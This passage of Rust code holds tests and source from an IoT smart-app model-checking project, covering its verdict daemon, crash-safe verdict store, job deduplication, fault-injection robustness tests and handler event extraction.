        assert_eq!(field(warm_line, "backing_hits"), field(warm_line, "groups"), "{warm_line}");
        // The verdicts themselves are identical to the cold run's.
        for key in ["groups", "violations", "violated_properties"] {
            let marker = format!("\"{key}\":");
            let extract = |line: &str| {
                let start = line.find(&marker).unwrap() + marker.len();
                line[start..].split(',').next().unwrap().to_string()
            };
            assert_eq!(extract(cold_line), extract(warm_line), "{key} drifted");
        }
    }
}

#[test]
fn status_and_compact_modes_report_the_store() {
    let dir = temp_dir("status");
    let store = dir.join("verdicts.log");
    let jobs = dir.join("jobs.ndjson");
    std::fs::write(&jobs, "{\"id\":\"a\",\"market\":2}\n{\"id\":\"b\",\"market\":2}\n").unwrap();
    let output = iotsand()
        .args(["--store", store.to_str().unwrap(), "--jobs", jobs.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(output.status.success());

    let status = iotsand().args(["--store", store.to_str().unwrap(), "--status"]).output().unwrap();
    assert!(status.status.success());
    let text = String::from_utf8(status.stdout).unwrap();
    assert!(text.contains("live entries:"), "{text}");
    assert!(text.contains("clean recovery"), "{text}");

    let compact =
        iotsand().args(["--store", store.to_str().unwrap(), "--compact"]).output().unwrap();
    assert!(compact.status.success());
    let text = String::from_utf8(compact.stdout).unwrap();
    assert!(text.contains("compacted"), "{text}");
}

#[cfg(unix)]
#[test]
fn listen_mode_serves_jobs_over_a_unix_socket() {
    use std::io::{BufRead, BufReader, Write};
    use std::os::unix::net::UnixStream;
    use std::time::{Duration, Instant};

    let dir = temp_dir("listen");
    let store = dir.join("verdicts.log");
    let socket = dir.join("iotsand.sock");

    let mut daemon = iotsand()
        .args(["--store", store.to_str().unwrap(), "--listen", socket.to_str().unwrap()])
        .spawn()
        .unwrap();

    // Wait for the socket to appear.
    let deadline = Instant::now() + Duration::from_secs(30);
    let stream = loop {
        match UnixStream::connect(&socket) {
            Ok(stream) => break stream,
            Err(_) if Instant::now() < deadline => std::thread::sleep(Duration::from_millis(20)),
            Err(e) => panic!("socket never came up: {e}"),
        }
    };
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut writer = stream;

    writeln!(writer, "{{\"id\":\"sock\",\"market\":2}}").unwrap();
    let mut response = String::new();
    reader.read_line(&mut response).unwrap();
    assert!(response.contains("\"status\":\"ok\""), "{response}");

    writeln!(writer, "{{\"op\":\"shutdown\"}}").unwrap();
    let mut ack = String::new();
    reader.read_line(&mut ack).unwrap();
    assert!(ack.contains("shutting-down"), "{ack}");

    let status = daemon.wait().unwrap();
    assert!(status.success());
    assert!(!socket.exists(), "socket file should be removed on shutdown");
}
