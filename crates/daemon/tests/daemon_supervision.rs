//! Self-healing properties of the daemon (worker supervision, poison
//! quarantine, degraded persistence): a panicking job becomes a structured
//! `Failed` outcome instead of a dead worker, duplicates of a doomed job
//! share one attempt budget, and an injected store fault degrades — never
//! kills — the service.

use iotsan_daemon::{
    load_quarantine, quarantine_sidecar_path, BundleSpec, Daemon, DaemonConfig, Fault, FaultKind,
    FaultPlan, JobSpec, JobStatus, RetryPolicy, StoreOptions, VerdictStore,
};
use std::path::{Path, PathBuf};

fn temp_store(name: &str) -> PathBuf {
    let dir =
        std::env::temp_dir().join(format!("iotsan-supervision-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir.join("verdicts.log")
}

fn config(store: &Path) -> DaemonConfig {
    DaemonConfig {
        store_path: store.to_path_buf(),
        store_options: StoreOptions::default(),
        workers: 1,
        queue_capacity: 16,
        retry: RetryPolicy { max_attempts: 2, base_delay_ms: 1 },
        fault_plan: None,
        fault_injection: true,
    }
}

fn market_job(id: &str, n: usize, inject_panic: bool) -> JobSpec {
    JobSpec {
        id: id.into(),
        bundle: BundleSpec::Market(n),
        events: 2,
        workers: 1,
        failures: false,
        timeout_ms: None,
        inject_panic,
    }
}

/// Quiets the default panic hook for the duration of a test — injected
/// panics are expected, their backtraces are noise.
fn hushed<T>(body: impl FnOnce() -> T) -> T {
    let hook = std::panic::take_hook();
    std::panic::set_hook(Box::new(|_| {}));
    let result = body();
    std::panic::set_hook(hook);
    result
}

#[test]
fn panicking_job_fails_structurally_and_daemon_keeps_serving() {
    let store = temp_store("survives-panic");
    let mut daemon = Daemon::start(config(&store)).unwrap();

    let outcomes = hushed(|| {
        daemon.run_batch(vec![market_job("doomed", 2, true), market_job("healthy", 2, false)])
    });
    assert_eq!(outcomes.len(), 2);
    let doomed = outcomes.iter().find(|o| o.id == "doomed").unwrap();
    match &doomed.status {
        JobStatus::Failed { panic_message } => {
            assert!(
                panic_message.contains("injected panic"),
                "panic message must survive into the outcome: {panic_message}"
            );
        }
        other => panic!("expected Failed, got {other:?}"),
    }
    assert!(doomed.report.is_none());
    let healthy = outcomes.iter().find(|o| o.id == "healthy").unwrap();
    assert!(matches!(healthy.status, JobStatus::Ok));
    assert!(healthy.report.is_some());

    // The same daemon — same worker pool — verifies further jobs normally.
    let again = daemon.run_batch(vec![market_job("after", 3, false)]);
    assert!(matches!(again[0].status, JobStatus::Ok));

    let summary = daemon.shutdown().unwrap();
    assert_eq!(summary.quarantined, 1);
    assert!(!summary.degraded);
}

#[test]
fn duplicates_share_one_attempt_budget_and_fail_fast() {
    let store = temp_store("quarantine");
    let mut daemon = Daemon::start(config(&store)).unwrap();

    // Two submissions of the same doomed job class (ids differ; the
    // fingerprint ignores ids).  The first exhausts the budget; the second
    // must observe the quarantine instead of re-running the doomed work.
    let outcomes = hushed(|| {
        daemon.run_batch(vec![market_job("doomed-a", 2, true), market_job("doomed-b", 2, true)])
    });
    for outcome in &outcomes {
        assert!(matches!(outcome.status, JobStatus::Failed { .. }), "{:?}", outcome.status);
    }
    let b = outcomes.iter().find(|o| o.id == "doomed-b").unwrap();
    match &b.status {
        JobStatus::Failed { panic_message } => {
            assert!(
                panic_message.contains("quarantined"),
                "duplicate must fail fast: {panic_message}"
            );
        }
        _ => unreachable!(),
    }

    // The shared budget: exactly max_attempts runs happened in total, not
    // max_attempts per duplicate.
    let poisoned = daemon.poisoned();
    assert_eq!(poisoned.len(), 1);
    assert_eq!(poisoned[0].1.attempts, 2);
    assert!(poisoned[0].1.quarantined);

    // The quarantine survives to disk and a restarted daemon honors it
    // without burning a single new attempt.
    let sidecar = quarantine_sidecar_path(&store);
    assert_eq!(load_quarantine(&sidecar).len(), 1);
    daemon.shutdown().unwrap();

    let mut daemon = Daemon::start(config(&store)).unwrap();
    let outcomes = daemon.run_batch(vec![market_job("doomed-c", 2, true)]);
    match &outcomes[0].status {
        JobStatus::Failed { panic_message } => {
            assert!(panic_message.contains("quarantined"), "{panic_message}");
        }
        other => panic!("expected quarantined Failed, got {other:?}"),
    }
    daemon.shutdown().unwrap();
}

#[test]
fn inject_panic_needs_fault_injection_enabled() {
    let store = temp_store("gating");
    let mut cfg = config(&store);
    cfg.fault_injection = false;
    let mut daemon = Daemon::start(cfg).unwrap();
    let outcomes = daemon.run_batch(vec![market_job("sneaky", 2, true)]);
    assert!(
        matches!(&outcomes[0].status, JobStatus::Invalid(e) if e.contains("fault injection")),
        "{:?}",
        outcomes[0].status
    );
    daemon.shutdown().unwrap();
}

#[test]
fn store_fault_degrades_then_repairs_without_losing_service() {
    let store = temp_store("degraded");
    let mut cfg = config(&store);
    // The very first verdict append fails like a full disk.
    cfg.fault_plan = Some(FaultPlan { faults: vec![Fault { at: 0, kind: FaultKind::NoSpace }] });
    let mut daemon = Daemon::start(cfg).unwrap();

    let outcomes = daemon.run_batch(vec![market_job("first", 2, false)]);
    assert!(
        matches!(outcomes[0].status, JobStatus::Ok),
        "verdicts still served: {:?}",
        outcomes[0].status
    );
    assert!(outcomes[0].degraded, "a lost persist must be visible on the outcome");

    // The flight recorder caught the incident: the ring names both the
    // injected fault and the degrade, so a dump reconstructs the cause.
    let dump = iotsan_telemetry::flight::dump("degrade probe");
    assert!(dump.contains("injected disk full (ENOSPC)"), "{dump}");
    assert!(dump.contains("store_degrade"), "{dump}");

    // The backoff probe reopens the store; later verdicts persist again.
    std::thread::sleep(std::time::Duration::from_millis(10));
    let outcomes = daemon.run_batch(vec![market_job("second", 3, false)]);
    assert!(matches!(outcomes[0].status, JobStatus::Ok));
    assert_eq!(daemon.degraded(), None, "probe must have repaired the store");
    let summary = daemon.shutdown().unwrap();
    assert!(!summary.degraded);

    // What the repaired store persisted is sound: a fresh open replays it.
    let reopened = VerdictStore::open(&store).unwrap();
    assert!(!reopened.is_empty(), "post-repair verdicts must be durable");
}
