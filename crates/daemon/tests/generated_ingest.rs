//! Batch-ingests scenario-factory households through the `iotsand` binary:
//! 50 generated jobs (10 distinct households × 5 identical copies each),
//! asserting the daemon's fingerprint dedup — each distinct group is
//! model-checked exactly once, every identical copy replays the same
//! verdict from the cache.

use iotsan_scenarios::{Household, SizeProfile};
use std::path::PathBuf;
use std::process::Command;

const DISTINCT: usize = 10;
const COPIES: usize = 5;

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("iotsand-gen-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn iotsand() -> Command {
    Command::new(env!("CARGO_BIN_EXE_iotsand"))
}

/// Pulls the integer value of `"key":N` out of a rendered NDJSON line.
fn field(line: &str, key: &str) -> u64 {
    let marker = format!("\"{key}\":");
    let start = line.find(&marker).unwrap_or_else(|| panic!("no {key} in {line}")) + marker.len();
    line[start..].chars().take_while(|c| c.is_ascii_digit()).collect::<String>().parse().unwrap()
}

/// Pulls the `"violated_properties":[...]` array text out of a line.
fn violated(line: &str) -> &str {
    let marker = "\"violated_properties\":[";
    let start = line.find(marker).unwrap_or_else(|| panic!("no violated_properties in {line}"));
    let end = line[start..].find(']').expect("array closes") + start + 1;
    &line[start..end]
}

#[test]
fn fifty_generated_jobs_dedup_under_identical_fingerprints() {
    // Scan seeds for the first DISTINCT households that install at least one
    // app (zero-app households are legal generator output but make no jobs).
    let profile = SizeProfile::default();
    let households: Vec<Household> = (0..)
        .map(|seed| Household::generate(seed, &profile))
        .filter(|h| !h.sources.is_empty())
        .take(DISTINCT)
        .collect();
    assert_eq!(households.len(), DISTINCT);

    let mut jobs = String::new();
    for (i, household) in households.iter().enumerate() {
        let sources =
            serde_json::to_string(&household.sources).expect("sources serialize to a JSON array");
        for copy in 0..COPIES {
            jobs.push_str(&format!(
                "{{\"id\":\"h{i}c{copy}\",\"sources\":{sources},\"events\":1}}\n"
            ));
        }
    }

    let dir = temp_dir("dedup");
    let store = dir.join("verdicts.log");
    let jobs_path = dir.join("jobs.ndjson");
    std::fs::write(&jobs_path, &jobs).unwrap();

    let output = iotsand()
        .args(["--store", store.to_str().unwrap(), "--jobs", jobs_path.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(output.status.success(), "iotsand failed: {}", String::from_utf8_lossy(&output.stderr));
    let stdout = String::from_utf8(output.stdout).unwrap();
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), DISTINCT * COPIES, "{stdout}");

    // The worker pool emits results in completion order and the in-flight
    // fingerprint claim lets ANY copy be the one that verifies, so neither
    // line order nor which copy pays the cache miss is deterministic.
    // Bucket by household id and assert quintet totals instead.
    let mut buckets: Vec<Vec<&str>> = vec![Vec::new(); DISTINCT];
    for line in &lines {
        buckets[household_index(line)].push(line);
    }

    let mut total_misses = 0;
    let mut distinct_groups = 0;
    for (i, copies) in buckets.iter().enumerate() {
        assert_eq!(copies.len(), COPIES, "household {i} lost copies: {stdout}");
        let first = copies[0];
        let groups = field(first, "groups");
        distinct_groups += groups;
        let mut quintet_misses = 0;
        for line in copies {
            assert!(line.contains("\"status\":\"ok\""), "{line}");
            // Every group is accounted for: checked fresh or replayed.
            assert_eq!(field(line, "cache_hits") + field(line, "cache_misses"), groups, "{line}");
            quintet_misses += field(line, "cache_misses");
            // And all five copies report the exact same verdict.
            assert_eq!(field(line, "groups"), groups, "group count drifted within a quintet");
            assert_eq!(field(line, "violations"), field(first, "violations"), "{line}");
            assert_eq!(violated(line), violated(first), "verdict drifted within a quintet");
        }
        // Dedup: across 5 identical copies each group is model-checked at
        // most once (without the fingerprint claim this would be 5×groups).
        assert!(
            quintet_misses <= groups,
            "household {i}: {quintet_misses} misses across {COPIES} copies of {groups} groups"
        );
        total_misses += quintet_misses;
    }
    // Globally every distinct group was checked exactly once: the generated
    // households share no group fingerprints, so misses == distinct groups.
    assert_eq!(
        total_misses, distinct_groups,
        "expected each of the {distinct_groups} distinct groups checked exactly once"
    );
}

/// Parses the household index out of an `"id":"h{i}c{copy}"` field.
fn household_index(line: &str) -> usize {
    let marker = "\"id\":\"h";
    let start = line.find(marker).unwrap_or_else(|| panic!("no id in {line}")) + marker.len();
    line[start..]
        .chars()
        .take_while(|c| c.is_ascii_digit())
        .collect::<String>()
        .parse()
        .unwrap_or_else(|_| panic!("malformed id in {line}"))
}
