//! Crash-safety properties of the verdict store (ISSUE PR 7): any byte-level
//! truncation or tail corruption of the log yields either full recovery of a
//! record prefix or an explicit `CorruptTail` skip — never a wrong verdict —
//! and compaction is idempotent.

use iotsan::checker::{SearchReport, SearchStats};
use iotsan::{Fingerprint, GroupResult};
use iotsan_daemon::fault::{Fault, FaultKind, FaultPlan, FaultyIo};
use iotsan_daemon::store::{DiscardReason, Recovery, StoreOptions, VerdictStore};
use proptest::prelude::*;
use std::path::PathBuf;
use std::time::Duration;

const HEADER_LEN: usize = 16;

fn temp_path(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("iotsan-recovery-{}-{name}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    dir.join("verdicts.log")
}

/// A distinctive verdict per index, so a decoding mix-up can't masquerade as
/// the right answer.
fn sample(i: usize) -> GroupResult {
    let stats = SearchStats {
        states_stored: 3 * i + 1,
        transitions: 7 * i + 2,
        max_depth_reached: i,
        elapsed: Duration::from_micros(i as u64 * 131 + 17),
        states_per_sec: i as f64 * 0.75 + 0.125,
        store_memory_bytes: 64 * i,
        peak_trace_bytes: 8 * i + 3,
        ..SearchStats::default()
    };
    GroupResult {
        apps: vec![format!("App {i}"), format!("Companion {}", i * i)],
        report: SearchReport { violations: Vec::new(), stats },
    }
}

fn build_log(path: &PathBuf, entries: usize) -> Vec<(Fingerprint, GroupResult)> {
    let _ = std::fs::remove_file(path);
    let originals: Vec<(Fingerprint, GroupResult)> =
        (0..entries).map(|i| (Fingerprint(0x1000 + i as u64), sample(i))).collect();
    let mut store = VerdictStore::open(path).unwrap();
    for (fingerprint, result) in &originals {
        store.append(*fingerprint, result).unwrap();
    }
    originals
}

/// Whatever survived must be an exact prefix of what was written, value for
/// value — a recovered verdict is always one that was actually stored.
fn assert_prefix(store: &VerdictStore, originals: &[(Fingerprint, GroupResult)]) {
    let survived: Vec<Fingerprint> = store.fingerprints().collect();
    assert!(survived.len() <= originals.len());
    for (i, fingerprint) in survived.iter().enumerate() {
        assert_eq!(*fingerprint, originals[i].0, "survivors must be the written prefix");
        assert_eq!(
            store.get(*fingerprint),
            Some(&originals[i].1),
            "verdict must be byte-identical"
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn any_truncation_recovers_a_prefix_or_skips(
        entries in 1usize..6,
        cut_frac in 0u32..10_000,
    ) {
        let path = temp_path("truncate");
        let originals = build_log(&path, entries);
        let bytes = std::fs::read(&path).unwrap();
        let cut = (u64::from(cut_frac) * bytes.len() as u64 / 10_000) as usize;
        std::fs::write(&path, &bytes[..cut]).unwrap();

        let mut store = VerdictStore::open(&path).unwrap();
        match store.recovery() {
            Recovery::Fresh => prop_assert_eq!(cut, 0),
            Recovery::Discarded { reason } => {
                // Only a cut inside the 16-byte header discards the log.
                prop_assert!(cut < HEADER_LEN);
                prop_assert_eq!(reason, &DiscardReason::BadHeader);
            }
            Recovery::Clean { records } => {
                // The cut landed exactly on a record boundary.
                prop_assert!(*records <= entries);
                prop_assert_eq!(*records, store.len());
            }
            Recovery::CorruptTail { records, dropped_bytes } => {
                prop_assert!(*records < entries);
                prop_assert!(*dropped_bytes > 0);
            }
        }
        assert_prefix(&store, &originals);

        // The broken tail was truncated off, so the log is append-sound
        // again: a new verdict written now survives the next restart.
        let extra = sample(99);
        store.append(Fingerprint(0xeeee), &extra).unwrap();
        drop(store);
        let reopened = VerdictStore::open(&path).unwrap();
        prop_assert!(matches!(reopened.recovery(), Recovery::Clean { .. }));
        prop_assert_eq!(reopened.get(Fingerprint(0xeeee)), Some(&extra));
    }

    #[test]
    fn any_tail_bitflip_is_skipped_never_trusted(
        entries in 1usize..5,
        pos_frac in 0u32..10_000,
        bit in 0u32..8,
    ) {
        let path = temp_path("bitflip");
        let originals = build_log(&path, entries);
        let mut bytes = std::fs::read(&path).unwrap();
        let body = bytes.len() - HEADER_LEN;
        let pos = HEADER_LEN + (u64::from(pos_frac) * body as u64 / 10_000) as usize;
        let pos = pos.min(bytes.len() - 1);
        bytes[pos] ^= 1 << bit;
        std::fs::write(&path, &bytes).unwrap();

        let store = VerdictStore::open(&path).unwrap();
        // CRC-32 detects every single-bit error, so replay must stop at the
        // record containing the flip: an explicit skip, never a wrong verdict.
        prop_assert!(
            matches!(store.recovery(), Recovery::CorruptTail { records, .. } if *records < entries),
            "unexpected recovery {:?}",
            store.recovery()
        );
        assert_prefix(&store, &originals);
    }
}

fn fault_kind(which: u8) -> FaultKind {
    match which % 4 {
        0 => FaultKind::ShortWrite,
        1 => FaultKind::NoSpace,
        2 => FaultKind::FsyncFail,
        _ => FaultKind::RenameFail,
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Under any injected append faults, what a fresh process recovers is
    /// exactly the appends the store *acknowledged* (returned `Ok`), in
    /// order — a failed append never half-lands, and the repair after a
    /// torn write keeps later acknowledged appends sound.
    #[test]
    fn fault_injected_appends_recover_exact_acknowledged_prefix(
        entries in 1usize..8,
        fault_codes in proptest::collection::vec(0u64..40, 0..4),
    ) {
        let path = temp_path("fault-append");
        let _ = std::fs::remove_file(&path);
        let plan = FaultPlan {
            // Each code packs an op index (0..10) and a kind (0..4).
            faults: fault_codes
                .iter()
                .map(|code| Fault { at: code / 4, kind: fault_kind((code % 4) as u8) })
                .collect(),
        };
        let mut store =
            VerdictStore::open_with_io(&path, StoreOptions::default(), Box::new(FaultyIo::new(plan)))
                .unwrap();

        let mut acknowledged: Vec<(Fingerprint, GroupResult)> = Vec::new();
        for i in 0..entries {
            let fingerprint = Fingerprint(0x2000 + i as u64);
            let result = sample(i);
            if store.append(fingerprint, &result).is_ok() {
                acknowledged.push((fingerprint, result));
            }
        }
        drop(store);

        // A fresh process (real I/O) must see exactly the acknowledged set.
        let reopened = VerdictStore::open(&path).unwrap();
        prop_assert!(
            matches!(reopened.recovery(), Recovery::Fresh | Recovery::Clean { .. }),
            "acknowledged-only log must recover cleanly, got {:?}",
            reopened.recovery()
        );
        let survived: Vec<Fingerprint> = reopened.fingerprints().collect();
        let expected: Vec<Fingerprint> = acknowledged.iter().map(|(f, _)| *f).collect();
        prop_assert!(survived == expected, "recovered {survived:?} != acknowledged {expected:?}");
        for (fingerprint, result) in &acknowledged {
            prop_assert_eq!(reopened.get(*fingerprint), Some(result));
        }
    }

    /// Compaction under any injected fault is all-or-nothing: on failure the
    /// live log's bytes are untouched, the temp file is cleaned up, and the
    /// store still serves every verdict; a later fault-free compaction then
    /// succeeds normally.
    #[test]
    fn fault_injected_compaction_fully_applies_or_fully_rolls_back(
        fault_offset in 0u64..4,
        which in 0u8..4,
    ) {
        let path = temp_path("fault-compact");
        let _ = std::fs::remove_file(&path);
        // 4 appends (ops 0..4), two of them superseding, then a compaction
        // whose three ops (write temp, fsync, rename) start at op 4.
        let plan = FaultPlan {
            faults: vec![Fault { at: 4 + fault_offset, kind: fault_kind(which) }],
        };
        let mut store =
            VerdictStore::open_with_io(&path, StoreOptions::default(), Box::new(FaultyIo::new(plan)))
                .unwrap();
        for (i, fp) in [1u64, 2, 1, 2].iter().enumerate() {
            store.append(Fingerprint(*fp), &sample(i)).unwrap();
        }
        let before = std::fs::read(&path).unwrap();

        let outcome = store.compact();
        let tmp = path.with_extension("compact");
        if outcome.is_err() {
            prop_assert!(std::fs::read(&path).unwrap() == before, "failed compaction must not touch the log");
            prop_assert!(!tmp.exists(), "failed compaction must remove its temp file");
        }
        // Either way the store still serves the latest verdicts...
        prop_assert_eq!(store.get(Fingerprint(1)), Some(&sample(2)));
        prop_assert_eq!(store.get(Fingerprint(2)), Some(&sample(3)));
        // ...and a later fault-free compaction (indices exhausted) succeeds.
        if outcome.is_err() {
            let stats = store.compact().unwrap();
            prop_assert_eq!(stats.records_after, 2);
        }
        drop(store);
        let reopened = VerdictStore::open(&path).unwrap();
        prop_assert_eq!(reopened.recovery(), &Recovery::Clean { records: 2 });
        prop_assert_eq!(reopened.get(Fingerprint(1)), Some(&sample(2)));
        prop_assert_eq!(reopened.get(Fingerprint(2)), Some(&sample(3)));
    }
}

#[test]
fn compaction_is_idempotent() {
    let path = temp_path("idempotent");
    let _ = std::fs::remove_file(&path);
    let mut store = VerdictStore::open(&path).unwrap();
    store.append(Fingerprint(1), &sample(0)).unwrap();
    store.append(Fingerprint(2), &sample(1)).unwrap();
    store.append(Fingerprint(1), &sample(2)).unwrap(); // supersedes
    store.evict(Fingerprint(2)).unwrap(); // tombstone
    store.append(Fingerprint(3), &sample(3)).unwrap();
    assert_eq!((store.records(), store.len(), store.dead_records()), (5, 2, 3));

    let first = store.compact().unwrap();
    assert_eq!((first.records_before, first.records_after), (5, 2));
    assert!(first.bytes_after < first.bytes_before);
    let after_first = std::fs::read(&path).unwrap();

    // Compacting an already-compact log rewrites the identical bytes.
    let second = store.compact().unwrap();
    assert_eq!((second.records_before, second.records_after), (2, 2));
    assert_eq!((second.bytes_before, second.bytes_after), (first.bytes_after, first.bytes_after));
    assert_eq!(std::fs::read(&path).unwrap(), after_first);

    // Last write won, the tombstoned entry is gone, and a reopen is clean.
    assert_eq!(store.get(Fingerprint(1)), Some(&sample(2)));
    assert!(!store.contains(Fingerprint(2)));
    drop(store);
    let reopened = VerdictStore::open(&path).unwrap();
    assert_eq!(*reopened.recovery(), Recovery::Clean { records: 2 });
    assert_eq!(reopened.get(Fingerprint(1)), Some(&sample(2)));
    assert_eq!(reopened.get(Fingerprint(3)), Some(&sample(3)));
}

#[test]
fn capacity_and_auto_compaction_knobs() {
    let path = temp_path("knobs");
    let _ = std::fs::remove_file(&path);
    let options = StoreOptions { max_entries: Some(2), compact_after_dead: None };
    let mut store = VerdictStore::open_with(&path, options).unwrap();
    for i in 0..4 {
        store.append(Fingerprint(i), &sample(i as usize)).unwrap();
    }
    // FIFO eviction kept the two newest verdicts.
    assert_eq!(store.len(), 2);
    assert!(!store.contains(Fingerprint(0)) && !store.contains(Fingerprint(1)));
    assert!(store.contains(Fingerprint(2)) && store.contains(Fingerprint(3)));
    drop(store);

    // Auto-compaction reclaims the dead records as soon as the threshold is
    // crossed: the log never holds more than threshold-1 dead records after
    // a mutation.
    let auto = StoreOptions { max_entries: Some(2), compact_after_dead: Some(3) };
    let mut store = VerdictStore::open_with(&path, auto).unwrap();
    for i in 10..20 {
        store.append(Fingerprint(i), &sample(i as usize)).unwrap();
        assert!(store.dead_records() < 3, "dead records at {i}: {}", store.dead_records());
    }
    assert_eq!(store.len(), 2);
}
