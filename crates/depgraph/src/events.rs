//! Input/output event extraction (§5, "Extracting input/output events").
//!
//! Each event handler takes one or more *input events* and can induce zero or
//! more *output events*.  Input events come from its subscription trigger and
//! from APIs that read device state; output events come from APIs that change
//! device state (actuator commands) and from location-mode changes.  Events
//! are described in the paper's `attribute/value` format, where an empty value
//! means "any".

use iotsan_devices::registry;
use iotsan_ir::{IrApp, IrHandler, IrStmt, SettingKind, Trigger};
use std::collections::BTreeSet;
use std::fmt;

/// An event description in the paper's `attribute/value` format.
///
/// `value == None` means "any value of this attribute" and overlaps every
/// concrete value.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct EventDesc {
    /// Attribute (e.g. `contact`, `switch`, `mode`, `touch`).
    pub attribute: String,
    /// Specific value (e.g. `open`, `on`, `Away`), or `None` for any.
    pub value: Option<String>,
}

impl EventDesc {
    /// Creates an event description with a concrete value.
    pub fn new(attribute: impl Into<String>, value: impl Into<String>) -> Self {
        EventDesc { attribute: attribute.into(), value: Some(value.into()) }
    }

    /// Creates an "any value" event description.
    pub fn any(attribute: impl Into<String>) -> Self {
        EventDesc { attribute: attribute.into(), value: None }
    }

    /// True when two descriptions can describe the same concrete event.
    pub fn overlaps(&self, other: &EventDesc) -> bool {
        if self.attribute != other.attribute {
            return false;
        }
        match (&self.value, &other.value) {
            (Some(a), Some(b)) => a == b,
            _ => true,
        }
    }

    /// True when two descriptions target the same attribute but *different*
    /// concrete values — the "conflicting outputs" condition that forces two
    /// related sets to be merged (§5).
    pub fn conflicts_with(&self, other: &EventDesc) -> bool {
        self.attribute == other.attribute
            && matches!((&self.value, &other.value), (Some(a), Some(b)) if a != b)
    }
}

impl fmt::Display for EventDesc {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.value {
            Some(v) => write!(f, "{}/{}", self.attribute, v),
            None => write!(f, "{}/\"...\"", self.attribute),
        }
    }
}

/// The extracted event profile of one handler.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct EventProfile {
    /// Events that can trigger or are read by the handler.
    pub inputs: BTreeSet<EventDesc>,
    /// Events the handler can produce.
    pub outputs: BTreeSet<EventDesc>,
}

/// Extracts the input events of a handler: its subscription trigger plus all
/// device-attribute reads.
pub fn input_events(app: &IrApp, handler: &IrHandler) -> BTreeSet<EventDesc> {
    let mut inputs = BTreeSet::new();
    match &handler.trigger {
        Trigger::Device { attribute, value, .. } => {
            inputs.insert(EventDesc { attribute: attribute.clone(), value: value.clone() });
        }
        Trigger::LocationMode { value } => {
            inputs.insert(EventDesc { attribute: "mode".into(), value: value.clone() });
        }
        Trigger::LocationEvent { name } => {
            inputs.insert(EventDesc::any(name.clone()));
        }
        Trigger::AppTouch => {
            inputs.insert(EventDesc::any("touch"));
        }
        Trigger::Timer { .. } => {
            inputs.insert(EventDesc::any("time"));
        }
    }
    // Device-state reads also count as inputs (§5: "identified via APIs that
    // read states of smart devices").
    for (_, attribute) in handler.device_reads() {
        inputs.insert(EventDesc::any(attribute));
    }
    let _ = app;
    inputs
}

/// Extracts the output events of a handler: every device command (mapped to
/// the attribute change it causes via the capability registry), location-mode
/// changes and synthetic `sendEvent` events.
pub fn output_events(app: &IrApp, handler: &IrHandler) -> BTreeSet<EventDesc> {
    let mut outputs = BTreeSet::new();
    for stmt in &handler.body {
        stmt.walk(&mut |s| match s {
            IrStmt::DeviceCommand { input, command, .. } => {
                let capability = app
                    .input(input)
                    .and_then(|i| i.kind.capability().map(str::to_string))
                    .unwrap_or_else(|| "switch".to_string());
                let spec = registry().spec_or_switch(&capability);
                if let Some(cmd) = spec.command(command) {
                    for effect in &cmd.effects {
                        match effect {
                            iotsan_devices::CommandEffect::Set { attribute, value } => {
                                outputs.insert(EventDesc::new(*attribute, *value));
                            }
                            iotsan_devices::CommandEffect::SetFromArg { attribute } => {
                                outputs.insert(EventDesc::any(*attribute));
                            }
                        }
                    }
                } else {
                    // Unknown command: assume it changes the primary attribute.
                    outputs.insert(EventDesc::any(spec.primary_attribute().name));
                }
            }
            IrStmt::SetLocationMode(value) => {
                let mode = match value {
                    iotsan_ir::IrExpr::Const(v) => Some(v.as_string()),
                    _ => None,
                };
                outputs.insert(EventDesc { attribute: "mode".into(), value: mode });
            }
            IrStmt::SendEvent { attribute, value } => {
                let v = match value {
                    iotsan_ir::IrExpr::Const(v) => Some(v.as_string()),
                    _ => None,
                };
                outputs.insert(EventDesc { attribute: attribute.clone(), value: v });
            }
            _ => {}
        });
    }
    outputs
}

/// Extracts the full event profile of a handler from its subscription and a
/// direct statement walk.
///
/// This is the original (coarser) extraction; [`effect_profile`] supersedes
/// it as the edge source of [`crate::analyze`] but it stays public as the
/// reference point of the subgraph consistency guarantee: every event it
/// extracts is also extracted by [`effect_profile`].
pub fn event_profile(app: &IrApp, handler: &IrHandler) -> EventProfile {
    EventProfile { inputs: input_events(app, handler), outputs: output_events(app, handler) }
}

/// The event channel representing one app-state slot in effect profiles.
fn state_desc(app: &IrApp, var: &str) -> EventDesc {
    EventDesc::any(iotsan_analysis::state_channel(&app.name, var))
}

/// The event channel representing one app's scheduled handler.
fn sched_desc(app: &IrApp, handler: &str) -> EventDesc {
    EventDesc::any(format!("sched:{}:{}", app.name, handler))
}

/// Extracts a handler's event profile from its [`iotsan_analysis`] effect
/// summary — the edge source of the dependency graph.
///
/// The profile is a superset of [`event_profile`]'s: the same trigger and
/// device-attribute descriptions, plus flows the statement walk missed —
/// location-mode *reads* (a mode-writing handler feeds every mode-guarded
/// one), app-state slots (`state:{app}:{var}` channels connecting a
/// handler that stores a slot to the handlers reading it), and schedule
/// edges (`sched:{app}:{handler}` channels connecting `runIn`-style calls to
/// the timer handler they arm).  State and schedule channels are
/// app-qualified, so they never connect handlers across apps.
pub fn effect_profile(app: &IrApp, handler: &IrHandler) -> EventProfile {
    use iotsan_analysis::{ReadEffect, WriteEffect};
    let summary = iotsan_analysis::summarize_handler(app, handler);
    let mut profile = EventProfile::default();
    match &summary.trigger {
        Trigger::Device { attribute, value, .. } => {
            profile.inputs.insert(EventDesc { attribute: attribute.clone(), value: value.clone() });
        }
        Trigger::LocationMode { value } => {
            profile.inputs.insert(EventDesc { attribute: "mode".into(), value: value.clone() });
        }
        Trigger::LocationEvent { name } => {
            profile.inputs.insert(EventDesc::any(name.clone()));
        }
